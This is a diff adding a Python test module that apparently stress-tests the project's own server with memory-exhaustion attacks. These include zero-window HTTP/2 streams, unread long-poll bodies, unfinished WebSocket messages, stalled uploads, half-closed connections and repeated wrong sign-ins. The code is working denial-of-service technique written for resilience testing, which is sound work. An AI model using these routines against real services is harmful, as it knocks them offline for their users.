@@ -1,0 +1,249 @@
+# Attacks on the memory of the server's process. Each of them fills several limits at once, and stays within all of them: responses that
+# nobody reads, sign-ins, and bodies or messages that do not end.
+import copy, fcntl, socket, struct, termios, threading, time
+from concurrent.futures import ThreadPoolExecutor
+import held, streams
+from wire import Client, Socket, frame_head, library
+
+JSON = b'{"note":"' + b"a" * 255_000
+# As long as a message may be.
+MESSAGE = 262_144
+# The seconds after which a long poll, or an upload that waits for memory, has ended for certain.
+POLL, WAIT = 27, 6
+
+
+def at_once(attack, work):
+    """Does all of the work at the same time. The first is what makes the attack ready; the others count, too."""
+    others = copy.copy(attack)
+    others.is_ready = threading.Event()
+    threads = [threading.Thread(target=one, args=(others if number else attack,), daemon=True) for number, one in enumerate(work)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+def sign_ins(attack):
+    """For each network, wrong sign-ins without a pause, so that passwords are hashed all the time."""
+
+    def sign_in(source):
+        client = Client(attack.stage, source)
+        content = {"email": "nobody@example.org", "password": "wrong wrong wrong"}
+        while not attack.is_over:
+            try:
+                client.json("POST", "/auth/password/login", None, content)
+            except OSError:
+                pass
+            attack.wait(0.3)
+
+    return [lambda _, source=source: sign_in(source) for source in attack.sources]
+
+
+def unread_lists(count, each, request):
+    """Keeps `count` HTTP/2 connections with `each` streams, whose windows are 0. `request(attack, connection, number)` returns whose list a
+    stream requests, and its path."""
+
+    def run(attack):
+        def begin(connection, stream):
+            person, path = request(attack, connection.number, stream // 2)
+            connection.h2.send_headers(stream, streams.head(attack, "GET", path, person["token"]), end_stream=True)
+
+        streams.crowd(attack, count, begin, streams=each, window=0)
+
+    return run
+
+
+def pictures(attack, connection, number):
+    """Twelve pictures of one of the first four accounts."""
+    person = attack.accounts[number % 4]
+    return person, library(person) + "?limit=12"
+
+
+def moods(attack, connection, number, most=1):
+    """Moods of one of the accounts: 15 KB, or with `most` of 3 up to 45 KB."""
+    person = attack.accounts[(connection + 4 * number) % len(attack.accounts)]
+    return person, f"/api/users/user/{person['id']}/moods?limit={2 * most if number % 2 else 2}"
+
+
+def polls(attack):
+    """Long polls with a body that no handler reads, beside 3,000 streams."""
+    # An account may have 20 long polls. Each of the accounts has its own in one network.
+    person = lambda number: attack.accounts[number // 80 * 4 + number % 4]
+    head = lambda number: attack.stage.head("GET", "/events?wait=25", person(number)["token"], 4_000_000)
+    open_one, _ = held.half_sent(attack, head, bytes(300_000), None)
+
+    def poll(network):
+        return lambda attack: held.Crowd(
+            attack, 243, lambda number: open_one(4 * number + network), called="polls of a network").run()
+
+    at_once(attack, [poll(network) for network in range(4)] + [unread_lists(40, 75, pictures)] + sign_ins(attack))
+
+
+def multiplexed(attack):
+    """Over HTTP/2, 608 connections with two unread lists, an unfinished JSON body or a third list, and a long poll with a body that no handler
+    reads. Beside them 384 sockets with a message that lacks its last byte."""
+    unsent = {}
+
+    def begin(connection, stream):
+        person = attack.accounts[connection.number % len(attack.accounts)]
+        method, path, fields, content = "GET", moods(attack, connection.number, 0)[1], None, None
+        if stream // 2 % 4 == 3:
+            path, content = "/events?wait=25", bytes(300_000)
+        elif stream // 2 % 4 == 2 and connection.number < 352:
+            method, path, content = "PATCH", f"/api/users/user/{person['id']}/moods/{person['mood']}", JSON
+            fields = {"content-type": "application/json", "content-length": "262000"}
+        head = streams.head(attack, method, path, person["token"], fields)
+        connection.h2.send_headers(stream, head, end_stream=content is None)
+        unsent[connection, stream] = memoryview(content or b"")
+
+    def feed(connection, stream):
+        # The JSON first: once the server stops reading, it does not arrive any more.
+        left = [other for other in sorted(connection.open) if unsent[connection, other]]
+        if left and left[0] == stream:
+            unsent[connection, stream] = connection.send(stream, unsent[connection, stream])
+
+    def messages(attack):
+        held.Crowd(attack, 384, lambda number: unfinished_message(attack, number, MESSAGE), listens=False, called="sockets").run()
+
+    at_once(attack, [lambda attack: streams.crowd(attack, 608, begin, feed, streams=4, window=0), messages] + sign_ins(attack))
+
+
+def unfinished_message(attack, number, count):
+    """A socket for captures with a message of `count` bytes that lacks its last one."""
+    person = attack.accounts[number % len(attack.accounts)]
+    connection = Socket(attack.stage, attack.sources[number % 4], f"/ws/ios/{person['id']}", person["token"], timeout=10).connection
+    if count:
+        send(connection, frame_head(0x81, count) + b"a" * (count - 1))
+    return connection
+
+
+def send(connection, content):
+    """Sends the bytes unless the server stops to read them."""
+    connection.settimeout(0.5)
+    try:
+        connection.sendall(content)
+    except OSError:
+        pass
+
+
+def opened(attack, count, open_one):
+    """Opens connections at the same time. Returns those that opened."""
+
+    def attempt(number):
+        try:
+            return None if attack.is_over else open_one(number)
+        except OSError as error:
+            attack.count(type(error).__name__)
+
+    with ThreadPoolExecutor(16) as pool:
+        return [connection for connection in pool.map(attempt, range(count)) if connection]
+
+
+def each_at_once(connections, body):
+    with ThreadPoolExecutor(32) as pool:
+        list(pool.map(body, connections))
+
+
+def waiting(attack):
+    """Begins 512 uploads and opens 336 sockets. Then messages of the sockets fill the budget for received bytes, and all the uploads send 400
+    KB, so that each waits for the budget with what its connection has read. Again and again, beside 1,920 unread lists of up to 45 KB."""
+
+    def begun_upload(number):
+        person = attack.accounts[number % len(attack.accounts)]
+        connection = attack.connect(number, timeout=15)
+        fields = {"Content-Type": "multipart/form-data; boundary=zz"}
+        part = '--zz\r\nContent-Disposition: form-data; name="file"; filename="a.wav"\r\nContent-Type: audio/wav\r\n\r\n'
+        connection.sendall(attack.stage.head("POST", library(person) + "/swift", person["token"], 900_000, fields) + part.encode() + bytes(1_000))
+        return connection
+
+    def waves(attack):
+        while not attack.is_over:
+            uploads = opened(attack, 512, begun_upload)
+            sockets = opened(attack, 336, lambda number: unfinished_message(attack, number, 0))
+            attack.note("uploads", len(uploads))
+            attack.note("sockets", len(sockets))
+            each_at_once(sockets, lambda connection: send(connection, frame_head(0x81, MESSAGE) + b"a" * (MESSAGE - 1)))
+            attack.ready()
+            each_at_once(uploads, lambda connection: send(connection, bytes(400_000)))
+            attack.wait(WAIT)
+            for connection in uploads + sockets:
+                connection.close()
+
+    lists = lambda attack, connection, number: moods(attack, connection, number, most=3)
+    at_once(attack, [waves, unread_lists(20, 96, lists)] + sign_ins(attack))
+
+
+def halfclosed(attack):
+    """960 long polls with a body that no handler reads. It arrives when the client closes its sending side: then the server reads all that
+    the kernel has received. Beside 2,400 unread lists."""
+
+    def begun_poll(number):
+        """After some requests with bodies, the kernel receives more for a connection before the server reads it."""
+        client = Client(attack.stage, attack.sources[number % 4], timeout=15)
+        token = attack.accounts[number % len(attack.accounts)]["token"]
+        for _ in range(8):
+            client.request("GET", "/events?wait=0", token, bytes(250_000))
+        connection, client.connection = client.connection, None
+        if not connection:
+            raise ConnectionRefusedError
+        return connection
+
+    def begin(connections, count):
+        """The heads, and then single bytes, each in a read of its own. After four of them, the server does not read any more."""
+        for number, connection in enumerate(connections):
+            token = attack.accounts[number % len(attack.accounts)]["token"]
+            send(connection, attack.stage.head("GET", "/events?wait=25", token, count))
+        for _ in range(10):
+            attack.wait(0.06)
+            for connection in connections:
+                send(connection, b"x")
+
+    def finish(connection, count):
+        # The first byte of a next request: then the server does not learn at once that the client has closed.
+        send(connection, bytes(count - 10) + b"G")
+        socket.socket.shutdown(connection, socket.SHUT_WR)
+
+    def waves(attack):
+        probe = opened(attack, 1, begun_poll)
+        begin(probe, 4_000_000)
+        count = int(0.75 * min(1_600_000, received(probe[0])))
+        attack.note("bytes of a body", count)
+        while not attack.is_over:
+            connections = opened(attack, 960, begun_poll)
+            begin(connections, count)
+            each_at_once(connections, lambda connection: finish(connection, count))
+            attack.note("polls", len(connections))
+            attack.ready()
+            attack.wait(POLL)
+            for connection in connections:
+                connection.close()
+
+    at_once(attack, [waves, unread_lists(32, 75, moods)] + sign_ins(attack))
+
+
+def received(connection):
+    """How many bytes the server's kernel takes while the server does not read."""
+    connection.settimeout(0)
+    count, end = 0, time.monotonic() + 0.5
+    while time.monotonic() < end:
+        try:
+            count += connection.send(bytes(16_384))
+        except OSError:
+            time.sleep(0.01)
+    return count - struct.unpack("i", fcntl.ioctl(connection.fileno(), termios.TIOCOUTQ, bytes(4)))[0]
+
+
+def messages(attack):
+    """336 sockets that send the first byte of a message, and then only a pong now and then."""
+
+    def open_one(number):
+        connection = unfinished_message(attack, number, 0)
+        # Of a message in several frames. Its first frame has one byte.
+        connection.sendall(frame_head(0x01, 1) + b"{")
+        return connection
+
+    def pong(connection):
+        connection.settimeout(0)
+        connection.send(frame_head(0x8A, 0))
+
+    held.Crowd(attack, 336, open_one, pong, listens=False, called="sockets").run()
